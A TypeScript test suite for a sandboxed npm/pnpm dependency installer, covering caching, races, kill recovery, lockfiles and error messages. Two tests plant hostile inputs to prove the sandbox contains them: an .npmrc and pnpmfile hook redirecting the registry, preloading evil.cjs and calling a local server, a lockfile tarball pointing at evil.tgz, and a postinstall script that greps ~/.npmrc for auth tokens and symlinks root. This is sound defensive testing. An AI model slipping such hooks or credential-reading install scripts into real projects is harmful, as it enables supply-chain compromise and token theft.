import { type ChildProcess, spawn } from "node:child_process";
import { once } from "node:events";
import { lstat, mkdtemp, readdir, readFile, rm, stat, writeFile } from "node:fs/promises";
import { createServer } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { createInterface } from "node:readline";
import { VelocityError } from "@velocity/contract";
import { removeTree } from "@velocity/sandbox";
import { afterAll, beforeAll, expect, test } from "vitest";
import { z } from "zod";
import { openWorkspace, SMALL_PROJECT, type WorkspaceFixture } from "../test/workspace-fixture.ts";

const TIMEOUT_MS = 180_000;
let fixture: WorkspaceFixture;

beforeAll(async () => {
  fixture = await openWorkspace();
}, TIMEOUT_MS);
afterAll(async () => {
  await fixture.close();
});

async function errorOf(promise: Promise<unknown>): Promise<VelocityError> {
  const error = await promise.then(
    () => null,
    (reason: unknown) => reason,
  );
  if (error instanceof VelocityError) return error;
  throw new Error(`expected a VelocityError, got ${String(error)}`);
}

test("a second start of the same project takes the layer that is there", {
  timeout: TIMEOUT_MS,
}, async () => {
  const first = await fixture.install(SMALL_PROJECT);
  const [mount] = first.mounts;
  expect(first.mounts).toHaveLength(1);
  expect(mount).toMatchObject({ target: "node_modules" });
  const manifest = await readFile(join(mount?.path ?? "", "is-number/package.json"), "utf8");
  expect(JSON.parse(manifest)).toMatchObject({ name: "is-number", version: "7.0.0" });
  const second = await fixture.install({ ...SMALL_PROJECT, "src/main.js": "1" });
  expect(second).toMatchObject({ cached: true, mounts: first.mounts });
  expect(second.log).toEqual([]);
});

test("many starts at once install once", { timeout: TIMEOUT_MS }, async () => {
  const files = { "package.json": JSON.stringify({ dependencies: { "is-odd": "3.0.1" } }) };
  const all = await Promise.all(Array.from({ length: 10 }, () => fixture.install(files)));
  expect(new Set(all.map(({ mounts }) => mounts[0]?.path)).size).toBe(1);
  expect((await stat(all[0]?.mounts[0]?.path ?? "")).isDirectory()).toBe(true);
  expect(await readdir(join(fixture.cacheDir, "pnpm/work"))).toEqual([]);
});

test("a caller who leaves does not end the installation of another", { timeout: TIMEOUT_MS }, async () => {
  const files = { "package.json": JSON.stringify({ dependencies: { "is-even": "1.0.0" } }) };
  const leaver = new AbortController();
  const left = fixture.install(files, {
    signal: leaver.signal,
    onLog: () => leaver.abort(new Error("left")),
  });
  const stays = fixture.install(files);
  await expect(left).rejects.toThrow("left");
  expect((await stays).mounts).toHaveLength(1);
});

test("an installation nobody waits for any more ends, and leaves nothing", {
  timeout: TIMEOUT_MS,
}, async () => {
  const files = { "package.json": JSON.stringify({ dependencies: { lodash: "4.17.20" } }) };
  const leaver = new AbortController();
  const left = fixture.install(files, {
    signal: leaver.signal,
    onLog: () => leaver.abort(new Error("left")),
  });
  await expect(left).rejects.toThrow("left");
  await expect.poll(() => readdir(join(fixture.cacheDir, "pnpm/work")), { timeout: 20_000 }).toEqual([]);
  const { key } = (
    await fixture.workspace.plan(
      {
        list: async () => ["package.json"],
        read: async (path) => (path === "package.json" ? files["package.json"] : null),
      },
      { linkedDirectory: null },
    )
  ).dependencies ?? { key: "" };
  await expect(stat(join(fixture.cacheDir, "deps", key))).rejects.toThrow("ENOENT");
});

const factSchema = z.object({
  line: z.string().optional(),
  directory: z.string().optional(),
  mounts: z.array(z.object({ key: z.string(), path: z.string() })).optional(),
});
type Fact = z.infer<typeof factSchema>;

function installInProcess(
  cacheDir: string,
  manifest: object,
): { child: ChildProcess; facts: AsyncIterable<Fact> } {
  const script = join(import.meta.dirname, "../test/install-once.ts");
  const child = spawn(process.execPath, [script, cacheDir, JSON.stringify(manifest)], {
    stdio: ["ignore", "pipe", "inherit"],
  });
  const lines = createInterface({ input: child.stdout });
  return {
    child,
    facts: (async function* () {
      for await (const line of lines) yield factSchema.parse(JSON.parse(line));
    })(),
  };
}

test("two processes that race for one key install once, and both get it", {
  timeout: TIMEOUT_MS,
}, async () => {
  const cacheDir = await mkdtemp(join(tmpdir(), "vw-race-"));
  try {
    const manifest = { dependencies: { "is-number": "7.0.0", "is-odd": "3.0.1" } };
    const both = await Promise.all(
      [1, 2].map(async () => {
        const facts: Fact[] = [];
        for await (const fact of installInProcess(cacheDir, manifest).facts) facts.push(fact);
        return facts;
      }),
    );
    const installers = both.filter((facts) => facts.some(({ line }) => line?.startsWith("Done in")));
    expect(installers).toHaveLength(1);
    const paths = both.map((facts) => facts.find(({ mounts }) => mounts !== undefined)?.mounts?.[0]?.path);
    expect(paths[0]).toBeDefined();
    expect(paths[1]).toBe(paths[0]);
  } finally {
    await removeTree(cacheDir);
  }
});

test("after kill -9 in the middle of an installation, the next one is whole", {
  timeout: TIMEOUT_MS,
}, async () => {
  const cacheDir = await mkdtemp(join(tmpdir(), "vw-kill-"));
  const leftovers: string[] = [];
  try {
    const manifest = { dependencies: { lodash: "4.17.21", "is-odd": "3.0.1" } };
    const { child, facts } = installInProcess(cacheDir, manifest);
    for await (const fact of facts) {
      if (fact.directory !== undefined) leftovers.push(fact.directory);
      if (fact.line === undefined) continue;
      child.kill("SIGKILL");
      break;
    }
    if (child.signalCode === null) await once(child, "exit");
    expect(child.signalCode).toBe("SIGKILL");
    expect(await readdir(join(cacheDir, "deps")).catch(() => [])).toEqual([]);
    let path: string | undefined;
    for await (const fact of installInProcess(cacheDir, manifest).facts) path ??= fact.mounts?.[0]?.path;
    const installed = await readFile(join(path ?? "", "lodash/package.json"), "utf8");
    expect(JSON.parse(installed)).toMatchObject({ version: "4.17.21" });
  } finally {
    for (const path of [cacheDir, ...leftovers]) await removeTree(path);
  }
});

test("npm's lockfile is installed by npm, to the letter", { timeout: TIMEOUT_MS }, async () => {
  const manifest = { name: "locked", version: "1.0.0", dependencies: { "is-number": "^6.0.0" } };
  const lock = {
    name: "locked",
    version: "1.0.0",
    lockfileVersion: 3,
    requires: true,
    packages: {
      "": manifest,
      "node_modules/is-number": {
        version: "6.0.0",
        resolved: "https://registry.of.another.test/is-number/-/is-number-6.0.0.tgz",
        integrity:
          "sha512-Wu1VHeILBK8KAWJUAiSZQX94GmOE45Rg6/538fKwiloUu21KncEkYGPqob2oSZ5mUT73vLGrHQjKw3KMPwfDzg==",
      },
    },
  };
  const { mounts, plan } = await fixture.install({
    "package.json": JSON.stringify(manifest),
    "package-lock.json": JSON.stringify(lock),
  });
  expect(plan.packageManager).toBe("npm");
  const installed = await readFile(join(mounts[0]?.path ?? "", "is-number/package.json"), "utf8");
  expect(JSON.parse(installed)).toMatchObject({ version: "6.0.0" });
});

test("a package.json that npm's lockfile does not fit is installed all the same", {
  timeout: TIMEOUT_MS,
}, async () => {
  const { mounts, log } = await fixture.install({
    "package.json": JSON.stringify({ dependencies: { "is-number": "7.0.0" } }),
    "package-lock.json": JSON.stringify({ lockfileVersion: 3, requires: true, packages: { "": {} } }),
  });
  expect(log).toContain("The lockfile does not fit package.json: installing what package.json says.");
  expect(await readdir(mounts[0]?.path ?? "")).toContain("is-number");
});

test("a package that does not exist is named", { timeout: TIMEOUT_MS }, async () => {
  const error = await errorOf(
    fixture.install({
      "package.json": JSON.stringify({ dependencies: { "@velocity-tests/no-such-package": "1.0.0" } }),
    }),
  );
  expect(error.code).toBe("install_failed");
  expect(error.publicMessage).toBe(
    "@velocity-tests/no-such-package is not in the package registry. Check its name in package.json.",
  );
  expect(error.context.log).toEqual(expect.arrayContaining([expect.stringContaining("404")]));
});

test("a version that does not exist is named", { timeout: TIMEOUT_MS }, async () => {
  const error = await errorOf(
    fixture.install({ "package.json": JSON.stringify({ dependencies: { "is-number": "^999.0.0" } }) }),
  );
  expect(error.code).toBe("install_failed");
  expect(error.publicMessage).toBe("is-number has no version that fits the range in package.json.");
});

test("hostile settings, hooks and lockfiles reach nothing", { timeout: TIMEOUT_MS }, async () => {
  const requests: string[] = [];
  const server = createServer((request, response) => {
    requests.push(request.url ?? "");
    response.end("{}");
  });
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  const address = server.address();
  const port = typeof address === "object" && address !== null ? address.port : 0;
  const marker = join(fixture.directory, "owned");
  const own = `http://127.0.0.1:${port}/`;
  const hook = `require("node:fs").writeFileSync(${JSON.stringify(marker)}, "x"); fetch("${own}hook"); module.exports = { hooks: {} };`;
  try {
    const settings = {
      ".npmrc": `registry=${own}\n//127.0.0.1:${port}/:_authToken=secret\nscript-shell=/bin/evil\nnode-options=--require ./evil.cjs\npnpmfile=hook.cjs\nglobal-pnpmfile=hook.cjs\nstore-dir=/tmp/elsewhere\nmodules-dir=../../..\n`,
      ".pnpmfile.cjs": hook,
      "hook.cjs": hook,
      "evil.cjs": hook,
      "pnpm-workspace.yaml": `pnpmfile: hook.cjs\nconfigDependencies:\n  evil: 1.0.0+sha512-x\nregistries:\n  default: ${own}\ndangerouslyAllowAllBuilds: true\npackages:\n  - ../../**\n`,
    };
    const { mounts, log } = await fixture.install({ ...SMALL_PROJECT, ...settings });
    expect(await readdir(mounts[0]?.path ?? "")).toContain("is-number");
    const told = log.find((line) => line.startsWith("Not used for the installation"));
    expect(told).toContain("registry");
    expect(told).toContain("configDependencies");
    expect(told).not.toContain("secret");

    const lockfile = `lockfileVersion: '9.0'
importers:
  .:
    dependencies:
      is-number:
        specifier: 7.0.0
        version: 7.0.0
packages:
  is-number@7.0.0:
    resolution: {integrity: sha512-41Cifkg6e8TylSpdtTpeLVMqvSBEVzTttHvERD741+pnZ8ANv0004MRL43QKPDlK9cGvNp6NZWZUBlbGXYxxng==, tarball: ${own}evil.tgz}
snapshots:
  is-number@7.0.0: {}
`;
    const outcome = await fixture
      .install({ ...SMALL_PROJECT, "pnpm-lock.yaml": lockfile })
      .catch((error: unknown) => error);
    if (outcome instanceof Error) expect(outcome).toMatchObject({ code: "install_failed" });
    if (fixture.sandboxed) expect(requests).toEqual([]);
    await expect(stat(marker)).rejects.toThrow("ENOENT");
  } finally {
    server.close();
    server.closeAllConnections();
  }
});

test("install scripts run for one project alone, cut off from store, login and host", {
  timeout: TIMEOUT_MS,
}, async () => {
  if (!fixture.sandboxed) {
    process.stderr.write("not tried: install scripts need the sandbox\n");
    return;
  }
  const outside = join(fixture.directory, "outside");
  await writeFile(outside, "untouched");
  const script = [
    `echo x > ${outside}`,
    "ls /velocity/cache/pnpm/store > seen.txt",
    "ls /run/velocity-host | grep npmrc >> seen.txt",
    "grep _auth ~/.npmrc >> seen.txt",
    "ln -s / link",
    "echo built > built.txt",
  ].join("; ");
  const files = {
    "package.json": JSON.stringify({ dependencies: { native: "file:./native" } }),
    "native/package.json": JSON.stringify({
      name: "native",
      version: "1.0.0",
      scripts: { postinstall: script },
    }),
  };
  const one = await fixture.install(files, { projectId: "one" });
  const two = await fixture.install(files, { projectId: "two" });
  expect(one.mounts[0]?.key).not.toBe(two.mounts[0]?.key);
  expect(one.mounts[0]?.key).not.toBe(one.plan.dependencies?.key);
  const folder = join(one.mounts[0]?.path ?? "", "native");
  expect(await readFile(join(folder, "built.txt"), "utf8")).toBe("built\n");
  expect(await readFile(join(folder, "seen.txt"), "utf8")).toBe("");
  expect(await readFile(outside, "utf8")).toBe("untouched");
  expect((await lstat(join(folder, "link"))).isSymbolicLink()).toBe(true);
  expect((await stat("/")).mode & 0o022).toBe(0);
  expect((await fixture.install(files, { projectId: "one" })).cached).toBe(true);
});

test("a layer's folders are open for the container's own copy, and closed for everybody else", {
  timeout: TIMEOUT_MS,
}, async () => {
  const { mounts } = await fixture.install(SMALL_PROJECT);
  const path = mounts[0]?.path ?? "";
  expect((await stat(path)).mode & 0o777).toBe(0o777);
  expect((await stat(join(path, "is-number"))).mode & 0o777).toBe(0o777);
  expect((await stat(join(path, "is-number/index.js"))).mode & 0o444).toBe(0o444);
  expect((await stat(join(fixture.cacheDir, "deps"))).mode & 0o777).toBe(0o700);
});

test("a layer without its manifest is no layer", { timeout: TIMEOUT_MS }, async () => {
  const first = await fixture.install(SMALL_PROJECT);
  const entry = join(fixture.cacheDir, "deps", first.mounts[0]?.key ?? "");
  await rm(join(entry, "manifest.json"));
  const again = await fixture.install(SMALL_PROJECT);
  expect(again.cached).toBe(false);
  expect(await readdir(again.mounts[0]?.path ?? "")).toContain("is-number");
});
